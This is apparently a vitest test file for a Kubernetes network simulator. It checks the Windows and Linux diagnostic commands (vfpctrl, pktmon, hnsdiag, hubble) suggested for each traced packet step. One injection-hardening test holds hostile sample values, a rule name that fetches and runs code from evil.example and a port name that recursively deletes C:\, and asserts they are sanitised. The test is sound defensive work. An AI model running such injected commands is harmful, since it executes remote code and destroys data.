import './testing/builtins-loaded';
import { describe, expect, it } from 'vitest';
import { runProbe, simulate, type Simulation } from '../cluster/simulation';
import type { Trace, TraceEvent } from '../core/trace/trace';
import { onARealNode } from './on-a-real-node';
import { realNodeText } from './on-a-real-node-messages';

/** A step's notes in English, as the report writes them. */
const notesOf = (r: ReturnType<typeof onARealNode>) => r?.notes.map(realNodeText) ?? [];
import { BUILTINS, builtinById } from '.';

function traceOf(id: string, probe: string): { sim: Simulation; trace: Trace } {
  const sim = simulate(builtinById(id)!.scenario);
  const r = runProbe(sim, sim.resolved.scenario.probes.find((p) => p.name === probe)!);
  if (!r.ok) throw new Error(r.message);
  return { sim, trace: r.value.trace };
}
const hostsOf = (sim: Simulation) => (node: string) => sim.world.hosts.get(node);
const hubbleIn = (sim: Simulation) => [...sim.world.hosts.values()].some((h) => h.kind === 'linux' && h.dataplane === 'ebpf');
const cmds = (sim: Simulation, e: TraceEvent) => onARealNode(e, hostsOf(sim), { hubble: hubbleIn(sim) })?.commands.map((c) => c.cmd) ?? [];

describe('a Service VIP on talk-l2bridge', () => {
  const { sim, trace } = traceOf('talk-l2bridge', 'pod-to-service');

  it('every step at a VFP port names that port, and a layer step its layer and group, for vfpctrl', () => {
    const atPorts = trace.events.filter((e) => e.at.port && (e.kind === 'layer' || e.kind === 'port' || e.kind === 'flow-hit'));
    expect(atPorts.length).toBeGreaterThan(3);
    for (const e of atPorts) {
      const c = cmds(sim, e);
      expect(c.some((x) => x.startsWith(`vfpctrl /port ${e.at.port} `))).toBe(true);
      if (e.kind === 'layer') expect(c[0]).toBe(`vfpctrl /port ${e.at.port} /layer ${e.at.layer}${e.at.group ? ` /group ${e.at.group}` : ''} /list-rule`);
    }
  });

  it('the load balancer step also points at the HNS load balancer, and the matched rule in full', () => {
    const lb = trace.events.find((e) => e.lb)!;
    const c = cmds(sim, lb);
    expect(c).toContain('hnsdiag list loadbalancers -d');
    expect(c).toContain(`vfpctrl /get-rule-info /port ${lb.at.port} /layer ${lb.at.layer} /group ${lb.at.group} /rule ${lb.at.rule}`);
  });

  it('a pod step uses kubectl exec in the pod; no Hubble word in a cluster without Cilium', () => {
    const send = onARealNode(trace.events[0]!, hostsOf(sim), { hubble: hubbleIn(sim) })!;
    expect(send.os).toBe('windows');
    expect(send.commands[0]!.cmd).toMatch(/^kubectl exec -n default client -- ipconfig \/all$/);
    expect(send.notes).toEqual([]);
  });

  it("a vfpctrl command warns that a built node's GUIDs are the model's, and not for a node replayed from its dumps", () => {
    const layer = trace.events.find((e) => e.kind === 'layer')!;
    expect(notesOf(onARealNode(layer, hostsOf(sim)))[0]).toMatch(/^The port GUIDs are this model's\. .*vfpctrl \/list-vmswitch-port/);
    expect(notesOf(onARealNode(layer, hostsOf(sim), { fromDumps: true }))).toEqual(["The port GUIDs are your node's, as its dumps name them."]);
  });

  it('a capture on the wire is started, stopped, then read; its filters are removed after', () => {
    const { sim, trace } = traceOf('talk-l2bridge', 'pod-to-pod-other-node');
    const wire = trace.events.find((e) => e.kind === 'wire' && sim.world.hosts.has(e.at.link?.split(' → ')[0] ?? ''))!;
    const c = cmds(sim, wire);
    expect(c[0]).toMatch(/^pktmon filter add -i \d+\.\d+\.\d+\.\d+$/);
    expect(c.indexOf('pktmon stop')).toBeGreaterThan(c.indexOf('pktmon start --capture --comp nics'));
    expect(c.indexOf('pktmon etl2pcap PktMon.etl')).toBeGreaterThan(c.indexOf('pktmon stop'));
    expect(c.at(-1)).toBe('pktmon filter remove');
  });
});

describe('names from untrusted input', () => {
  it('a rule or port name that is not a plain token becomes a placeholder, never part of a command', () => {
    const { sim, trace } = traceOf('talk-l2bridge', 'pod-to-service');
    const lb = trace.events.find((e) => e.lb)!;
    const evil = { ...lb, at: { ...lb.at, rule: 'x; iwr evil.example | iex', port: '$(Remove-Item C:\\ -Recurse)' } };
    const all = cmds(sim, evil).join('\n');
    expect(all).not.toMatch(/iwr|Remove-Item|\$\(|;/);
    expect(all).toContain('vfpctrl /get-rule-info /port <port> /layer SLB_LB_LAYER');
    expect(all).toContain('/rule <rule>');
  });
});

describe('drops', () => {
  it('an ACL drop: the rule counters of the port that dropped it, VFP drop events and pktmon drop counters', () => {
    const { sim, trace } = traceOf('network-policy', 'batch-to-api-denied');
    const drop = trace.events.find((e) => e.kind === 'drop')!;
    const c = cmds(sim, drop);
    expect(c[0]).toBe(`vfpctrl /port ${drop.at.port} /get-rule-counter`);
    expect(c).toContain('pktmon counters --type drop --drop-reason');
    // One capture, drops and VFP's drop events together, stopped before it is read.
    expect(c.filter((x) => x.startsWith('pktmon start'))).toEqual(['pktmon start --capture --type drop -t -p Microsoft-Windows-Hyper-V-VfpExt -k 0x2 -f drops.etl']);
    expect(c.slice(-2)).toEqual(['pktmon stop', 'pktmon etl2txt drops.etl']);
  });
});

describe('overlay', () => {
  it('a VXLAN packet on the wire: a pktmon capture filtered on UDP 4789', () => {
    const { sim, trace } = traceOf('overlay-vxlan', BUILTINS.find((b) => b.id === 'overlay-vxlan')!.featuredProbe);
    const wire = trace.events.find((e) => e.kind === 'wire' && e.packet.outer?.kind === 'vxlan')!;
    expect(cmds(sim, wire)).toContain('pktmon filter add VXLAN -t UDP -p 4789');
    expect(onARealNode(wire, hostsOf(sim))?.node).toBe(wire.at.link?.split(' → ')[0]);
  });

  it('an MTU drop on the wire: the MTU of the sending node\'s interfaces', () => {
    const { sim, trace } = traceOf('overlay-vxlan', 'full-size-packet-df');
    const drop = trace.events.find((e) => e.kind === 'drop')!;
    const r = onARealNode(drop, hostsOf(sim))!;
    expect(r).toMatchObject({ os: 'windows', node: 'win-a' });
    expect(r.commands.map((x) => x.cmd)).toEqual(['Get-NetIPInterface -IncludeAllCompartments -AddressFamily IPv4 | ft InterfaceAlias,CompartmentId,NlMtu']);
  });
});

describe('a hybrid cluster with Dataplane V2 on Linux', () => {
  it('Windows steps say Hubble cannot see them; Linux steps say how Hubble shows them', () => {
    const { sim, trace } = traceOf('gke-hybrid', 'windows-pod-to-linux-service');
    const results = trace.events.map((e) => onARealNode(e, hostsOf(sim), { hubble: true })).filter((r) => r !== undefined);
    const win = results.filter((r) => r.os === 'windows');
    const lin = results.filter((r) => r.os === 'linux');
    expect(win.length).toBeGreaterThan(0);
    expect(lin.length).toBeGreaterThan(0);
    expect(win.every((r) => notesOf(r).at(-1)?.startsWith('Hubble does not see this step'))).toBe(true);
    expect(lin.every((r) => notesOf(r)[0]?.startsWith('Hubble sees this step: `hubble observe --'))).toBe(true);
  });

  it("a Linux pod's policy drop: hubble observe names the pod in namespace/name form", () => {
    const { sim, trace } = traceOf('gke-hybrid', 'policy-other-client-linux');
    const drop = trace.events.find((e) => e.kind === 'drop')!;
    const r = onARealNode(drop, hostsOf(sim), { hubble: true })!;
    expect(r.os).toBe('linux');
    expect(r.commands[0]!.cmd).toMatch(/^hubble observe --pod default\/[a-z0-9-]+ --verdict DROPPED$/);
  });
});

describe('Linux steps on a Cilium node', () => {
  const { sim, trace } = traceOf('gke-hybrid', 'windows-pod-to-linux-pod');
  const linux = trace.events.filter((e) => sim.world.hosts.get(e.at.node)?.kind === 'linux');

  it('the delivery lists the sockets in the pod; the veth step shows the lxc ends, not a bridge; no --node flag', () => {
    const deliver = linux.find((e) => e.kind === 'deliver')!;
    expect(cmds(sim, deliver)).toEqual([expect.stringMatching(/^kubectl exec -n default \S+ -- ss -ltn$/)]);
    const veth = linux.find((e) => e.text.includes('veth'))!;
    expect(cmds(sim, veth)).toEqual(['ip link show | grep lxc', 'cilium endpoint list']);
    const all = linux.flatMap((e) => notesOf(onARealNode(e, hostsOf(sim), { hubble: true })));
    expect(all.some((n) => n.includes('--node '))).toBe(false);
  });
});

describe('every step of every built-in probe', () => {
  it('gives commands with no unfilled value, or nothing; outside hosts give nothing', () => {
    let withCommands = 0;
    for (const b of BUILTINS) {
      const sim = simulate(b.scenario);
      for (const probe of sim.resolved.scenario.probes) {
        const r = runProbe(sim, probe);
        if (!r.ok) continue;
        for (const e of r.value.trace.events) {
          const got = onARealNode(e, hostsOf(sim), { hubble: hubbleIn(sim) });
          if (sim.world.hosts.get(e.at.node)?.kind === 'external') expect(got).toBeUndefined();
          if (!got) continue;
          withCommands++;
          expect(got.commands.length).toBeGreaterThan(0);
          for (const c of got.commands) expect(`${c.cmd} ${realNodeText(c.what)}`).not.toMatch(/undefined|NaN|\[object/);
        }
      }
    }
    expect(withCommands).toBeGreaterThan(200);
  });
});
